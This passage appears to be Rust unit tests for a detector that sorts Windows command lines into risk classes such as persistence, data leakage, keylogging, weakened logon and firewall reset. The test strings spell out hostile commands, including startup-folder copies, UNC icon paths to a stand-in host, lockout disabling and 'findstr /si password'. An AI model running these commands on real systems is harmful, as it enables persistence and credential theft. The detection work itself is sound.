            (r#"copy a.vbs C:\ProgramData\Microsoft\Windows\"Start Menu"\Programs\Startup\"#, "persistence medium"),
            (r"Rename-Item C:\Windows\System32\wuaueng.dll wuaueng.bak", "weakens-updates medium"),
            ("certutil -addstore Disallowed vendor.cer", "distrusts-certificate medium"),
            ("certutil -addstore TrustedPublisher vendor.cer", "adds-trusted-people medium"),
            ("WEB\r\n1\r\nhttps://a.example/a.txt", "downloads medium"),
            ("[Shell]\r\nIconFile=\\\\a.example\\s\\i.ico", "sends-data medium"),
            ("<img src=\"file://a.example/s/x.png\">", "sends-data medium"),
            ("dism /online /add-provisioningpackage /packagepath:\\\\a.example\\s\\a.ppkg", "remote-path medium"),
            ("Install-ProvisioningPackage -PackagePath C:\\a.ppkg", "installs-app medium"),
            ("route -p add 0.0.0.0 mask 0.0.0.0 203.0.113.5", "weakens-network medium"),
            ("net user kiosk /passwordreq:no", "weakens-logon medium"),
            ("Register-PSRepository -Name x -SourceLocation https://a.example", "installs-from-repository medium"),
            ("net localgroup \"Remote Desktop Users\" CONTOSO\\helpdesk /add", "opens-remote-access medium"),
            ("[Convert]::FromBase64String('V2VsY29tZSB0byBDb250b3NvLCBCZXJsaW4=')", "encoded-command medium"),
            (r"C:\Users\Public\agent.exe /install", "runs-from-open-folder medium"),
            (r#"cmd /c start "" "%TEMP%\My Setup.exe" /S"#, "runs-from-open-folder medium"),
            (r"powershell -File C:\Windows\Temp\a.ps1", "runs-from-open-folder medium"),
            (r"cmd /c copy a.exe %TEMP%\b.exe & %TEMP%\b.exe", "runs-from-open-folder medium"),
            (r"$p = 'C:\Users\Public\a.exe'; Start-Process $p", "runs-from-open-folder medium"),
            (r"C:\ProgramData\update.exe", "runs-from-open-folder medium"),
            (r"C:\ProgramData\Contoso\update.exe", "runs-from-open-folder low"),
            ("netsh trace start capture=yes tracefile=C:\\a.etl", "records-activity medium"),
            ("psr.exe /start /output C:\\a.zip /gui 0", "records-activity medium"),
            ("pktmon start --capture", "records-activity medium"),
            ("[W]::GetAsyncKeyState(65)", "records-activity high"),
            ("Set-Date -Date 2015-01-01", "changes-time medium"),
            ("cmd /c date 01-01-2015", "changes-time medium"),
            (r"net time \\server /set /y", "changes-time medium"),
            ("sc config w32time start= disabled", "changes-time medium"),
            ("w32tm /config /manualpeerlist:ntp.example /syncfromflags:manual /update", "changes-time low"),
            ("findstr /si password *.xml", "weakens-credentials medium"),
            ("net accounts /lockoutthreshold:0", "weakens-logon medium"),
            ("netsh advfirewall reset", "weakens-firewall medium"),
            (r"mklink /d C:\x \\server\share", "remote-path medium"),
        ] {
            assert!(classes(line).contains(&class.to_owned()), "{line}: {:?}", classes(line));
        }
    }

    #[test]
    fn folders_records_and_clocks_are_not_named_without_reason() {
        for line in [
            r"msiexec /i app.msi /qn /l*v %TEMP%\app.log",
            r"cmd /c setup.exe /S > C:\Windows\Temp\setup.log 2>&1",
            r"cmd /c copy tool.exe C:\Windows\Temp\tool.exe",
            r"cmd /c if exist C:\Windows\Temp\a.exe del C:\Windows\Temp\a.exe",
            r"curl -o %TEMP%\a.exe https://contoso.com/a.exe",
            r"(New-Object Net.WebClient).DownloadFile('https://contoso.com/a.exe', 'C:\Users\Public\a.exe')",
            r"Invoke-WebRequest https://contoso.com/a.exe -OutFile $env:TEMP\a.exe",
            r"C:\ProgramData\chocolatey\bin\choco.exe --version",
            r"Remove-Item C:\Users\Public\a.exe",
            "netsh trace stop",
            "psr /stop",
            "pktmon status",
            "w32tm /resync",
            "w32tm /query /status",
            "sc config w32time start= auto",
            "Get-Date",
            "date /t & time /t",
            "Set-TimeZone -Id UTC",
        ] {
            const NEW: [&str; 3] = ["runs-from-open-folder", "records-activity", "changes-time"];
            let found = classes(line);
            assert!(!found.iter().any(|class| NEW.iter().any(|new| class.starts_with(new))), "{line}: {found:?}");
        }
    }

    #[test]
    fn an_update_server_is_known_by_its_value() {
        let line =
            "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate /v WUServer /d http://a.example /f";
        assert!(classes(line).contains(&"changes-update-source medium".to_owned()), "{:?}", classes(line));
    }

    #[test]
    fn a_command_repeated_many_times_is_judged_as_once() {
        for part in [
            "copy n.txt ",
            "copy \\\\a\\b.exe ",
            "curl -o a.exe http://a.example/a ",
            "start a.exe ",
            "sc config mpssvc start= auto ",
            "reg add x ",
            "Set-MpPreference -DisableRealtimeMonitoring $false ",
            "ping -n 1 ",
        ] {
            assert_eq!(classes(&part.repeat((1 << 20) / part.len())), classes(part), "{part}");
        }
    }
}
